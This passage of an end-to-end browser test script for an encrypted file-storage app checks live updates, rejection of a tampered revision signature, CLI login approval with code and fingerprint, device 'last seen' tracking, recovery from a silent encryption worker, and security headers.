    await b.locator('#upload').setInputFiles(names.map((name) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(`${name} from tab B\n`) })));
    for (const name of names) await a.getByRole('cell', { name, exact: true }).waitFor({ timeout: 30000 });
  };
  const reads = () => seen.filter((x) => !x.endsWith('/events'));
  try {
    await a.goto(`${BASE}/pouches/${S.pouch.id}`);
    await a.getByText('live updates on').waitFor();
    await b.goto(`${BASE}/pouches/${S.pouch.id}`);
    await b.getByText('live updates on').waitFor();
    seen.length = 0;
    await upload(['live-1.txt', 'live-2.txt', 'live-3.txt']);
    eq('tab A read nothing but the event log for 3 changed files', reads().join(', '), '');
    console.log(`# tab A applied 3 files saved elsewhere with ${seen.length} requests, all GET .../events (before: each event page reloaded the pouch and the whole list, 2 + pages requests, and decrypted every file again)`);

    // Tab A again with its event log rewritten (a long-poll already waiting would not be).
    const rewritten = async (change) => {
      await a.unrouteAll({ behavior: 'ignoreErrors' });
      await a.route(new RegExp(`/v1/pouches/${S.pouch.id}/events`), async (route) => {
        const res = await route.fetch();
        const body = await res.json();
        body.data.items.forEach(change);
        await route.fulfill({ response: res, json: body });
      });
      await a.goto(`${BASE}/pouches/${S.pouch.id}`);
      await a.getByText('live updates on').waitFor();
      seen.length = 0;
    };
    // Events without their revisions (past the budget, or a server without the extension).
    let withheld = 0;
    await rewritten((e) => { if (e.kind === 'revision') { e.revision = null; withheld++; } });
    await upload(['live-4.txt', 'live-5.txt', 'live-6.txt']);
    ok(withheld >= 1, `some events came without their revision (${withheld})`);
    eq('only the revisions not brought are read, one each', reads().filter((x) => x.includes('/revisions')).length, withheld);
    eq('and nothing else', reads().filter((x) => !x.includes('/revisions')).join(', '), '');

    // A brought revision whose signature was changed: not opened.
    await rewritten((e) => { if (e.revision) e.revision.signature = e.revision.signature.replace(/^./, (c) => (c === 'A' ? 'B' : 'A')); });
    await b.locator('#upload').setInputFiles([{ name: 'live-7.txt', mimeType: 'text/plain', buffer: Buffer.from('forged?\n') }]);
    await a.getByText('its signature does not verify').waitFor({ timeout: 30000 });
    eq('the file is not offered for download', await a.getByRole('button', { name: 'Download live-7.txt' }).count(), 0);
  } finally {
    await a.unrouteAll({ behavior: 'ignoreErrors' }).catch(() => {});
    await a.close();
    await b.close();
  }
});

// The real `pouch login`, approved in the page: the terminal's link, code and fingerprint are
// what the page needs and shows; the CLI then holds the account's pouch keys and reads its files.
await test('the_real_pouch_login_is_approved_in_the_page', ['cli_login_approved_with_its_code_then_cli_decrypts_its_pouch_key'], async () => {
  const pouchBin = path.join(path.dirname(process.env.POUCHCTL), 'pouch');
  const home = fs.mkdtempSync(path.join(os.tmpdir(), 'pouch-real-'));
  const env = { ...process.env, XDG_CONFIG_HOME: home };
  const child = spawn(pouchBin, ['login', '--server', BASE, '--name', 'real-cli'], { env, stdio: ['ignore', 'pipe', 'pipe'] });
  let out = '';
  child.stdout.on('data', (d) => { out += d; });
  child.stderr.on('data', (d) => { out += d; });
  const exited = new Promise((resolve) => child.on('exit', resolve));
  try {
    for (let i = 0; i < 100 && !/fingerprint: .*\n/.test(out); i++) await page.waitForTimeout(100);
    const link = /^  (http\S+)$/m.exec(out)?.[1];
    const code = /^then type this code on the page: (\d{4}-\d{4}-\d{4})$/m.exec(out)?.[1];
    const fingerprint = /^The page must show this device key fingerprint: (.{19})$/m.exec(out)?.[1];
    ok(link && code && fingerprint, `the terminal shows a link, a code to type and a fingerprint: ${out}`);
    ok(link.startsWith(`${BASE}/cli/approve?request=`) && /#keys=[^&]+&n=[A-Za-z0-9_-]{22}$/.test(link), `the link: ${link}`);
    await page.goto(link);
    await page.getByTestId('device-name').waitFor();
    eq('the page shows the fingerprint the terminal shows', await page.getByTestId('fingerprint').textContent(), fingerprint);
    await page.getByLabel('Type the code your terminal shows').fill(code);
    await shot(page, 'cli-approve-real');
    await page.getByRole('button', { name: 'Approve' }).click();
    await page.getByText('Approved.').waitFor({ timeout: 30000 });
    const rc = await Promise.race([exited, new Promise((resolve) => setTimeout(() => resolve('timeout'), 30000))]);
    eq(`pouch login exits 0 (${out})`, rc, 0);
    ok(out.includes('Logged in to'), 'the terminal says it is logged in');
    const ls = JSON.parse(execFileSync(pouchBin, ['ls', S.pouch.id, '--json'], { env, encoding: 'utf8' }));
    ok(ls.items.some((f) => f.name === 'hello.txt'), 'the real CLI decrypts the pouch\'s file names');
    // "Last seen" is the device's last request (recorded at most once a minute), and the page
    // follows it without a reload.
    const deviceId = psql(`SELECT id FROM devices WHERE name = 'real-cli' AND revoked_at IS NULL ORDER BY created_at DESC LIMIT 1`);
    psql(`UPDATE devices SET last_seen_at = now() - interval '10 minutes' WHERE id = '${deviceId}'`);
    await page.goto(`${BASE}/devices`);
    const seen = page.getByRole('row').filter({ hasText: 'real-cli' }).locator('td[data-label="Last seen"]');
    await seen.waitFor();
    eq('last seen before the request', await seen.textContent(), '10 minutes ago');
    execFileSync(pouchBin, ['ls', S.pouch.id, '--json'], { env, encoding: 'utf8' });
    await page.evaluate(() => document.dispatchEvent(new Event('visibilitychange')));
    await page.waitForFunction(() => [...document.querySelectorAll('tr')].some((r) => r.textContent.includes('real-cli') && r.textContent.includes('within the last minute')), null, { timeout: 10000 });
    ok(Number(psql(`SELECT extract(epoch FROM now() - last_seen_at) FROM devices WHERE id = '${deviceId}'`)) < 30, 'the service recorded the request');
    await shot(page, 'devices-last-seen');
  } finally {
    if (child.exitCode === null) child.kill();
    fs.rmSync(home, { recursive: true, force: true });
  }
});

// Sharing between accounts (sharing.mjs). Until the service has its sharing routes (a branch
// of issue 24 without them), the steps say so and are not run.
if (S.token && (await apiAs(S.token, 'GET', '/v1/account/identity')).status !== 404) {
  await sharingSteps({ test, eq, ok, shot, apiAs, newContext, watch, BASE, S, page, W, WP });
} else {
  console.log('# sharing steps not run: this service has no GET /v1/account/identity');
}

// A chunk worker that goes away without a word (closed here; a crash can be as silent): the
// upload it held fails with a message once its beats stop (chunks.js SILENT_MS, 10 s), not
// never, and the next upload gets fresh workers.
await test('an_upload_whose_worker_went_silent_fails_and_the_next_one_works', ['upload_then_download_5mb_and_a_small_file'], async () => {
  const c = watch(await ctx.newPage());
  try {
    await c.goto(`${BASE}/pouches/${S.pouch.id}`);
    await c.getByText('live updates on').waitFor();
    const file = (name) => ({ name, mimeType: 'application/octet-stream', buffer: nodeCrypto.randomBytes(300000) });
    await c.locator('#upload').setInputFiles([file('before-silence.bin')]);
    await c.getByRole('cell', { name: 'before-silence.bin', exact: true }).waitFor({ timeout: 30000 });
    const workers = c.workers().filter((w) => w.url().endsWith('/chunk-worker.js'));
    ok(workers.length >= 1, `the page runs chunk workers (${workers.length})`);
    for (const w of workers) await w.evaluate(() => self.close()).catch(() => {});
    const started = Date.now();
    await c.locator('#upload').setInputFiles([file('silent-worker.bin')]);
    const alert = c.locator('main .error[role=alert]').filter({ hasText: 'The encryption worker stopped answering.' });
    await alert.waitFor({ timeout: 40000 });
    const waited = Date.now() - started;
    ok(waited >= 9000 && waited < 30000, `the upload failed after the silence, not at once nor never (${waited} ms)`);
    await c.locator('label.button:not(.disabled)', { hasText: 'Upload files' }).waitFor();
    eq('the failed upload made no file', await c.getByRole('cell', { name: 'silent-worker.bin', exact: true }).count(), 0);
    await c.locator('#upload').setInputFiles([file('silent-worker.bin')]);
    await c.getByRole('cell', { name: 'silent-worker.bin', exact: true }).waitFor({ timeout: 30000 });
  } finally {
    await c.close();
  }
});

await test('no_page_errors_and_no_csp_violations', [], async () => {
  eq('page errors', pageErrors.join(' | '), '');
  const res = await fetch(`${BASE}/pouches`);
  eq('history route serves index.html', res.status, 200);
  const csp = res.headers.get('content-security-policy') || '';
  ok(csp.startsWith("default-src 'self'"), `CSP: ${csp}`);
  eq('Referrer-Policy', res.headers.get('referrer-policy'), 'no-referrer');
  eq('nosniff', res.headers.get('x-content-type-options'), 'nosniff');
  const api404 = await fetch(`${BASE}/v1/no-such-thing`);
  eq('unknown API path', `${api404.status} ${(await api404.json()).error.code}`, '404 not_found');
});

await browser.close();
console.log(`# screenshots in ${OUT}`);
process.exit(failed ? 1 : 0);
